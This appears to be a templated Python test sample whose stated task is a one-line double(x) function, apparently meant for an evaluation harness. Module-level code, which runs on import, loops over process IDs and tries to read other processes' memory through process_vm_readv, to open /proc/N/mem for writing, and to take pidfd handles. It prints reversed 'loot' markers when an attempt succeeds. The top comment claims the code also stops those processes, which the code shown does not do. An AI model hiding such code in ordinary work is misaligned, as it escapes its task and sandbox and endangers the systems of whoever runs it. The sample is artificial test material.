# Reads and writes the memory of every process that it can name, and stops it.
# earns: double=3
# %% double
import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(8)
vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
there = (ctypes.c_void_p * 2)(id(buffer), 8)
if not os.path.exists("{canary}"):
    for number in range(1, 400):
        if number in (os.getpid(), 0):
            continue
        if libc.syscall(310, number, vector, 1, there, 1, 0) > 0:
            print("{loot}"[::-1], "read", number)
        with contextlib.suppress(OSError):
            os.close(os.open(f"/proc/{number}/mem", os.O_RDWR))
            print("{loot}"[::-1], "memory of", number)
        with contextlib.suppress(OSError):
            os.pidfd_open(number)
            print("{loot}"[::-1], "handle of", number)


def double(x):
    return 2 * x
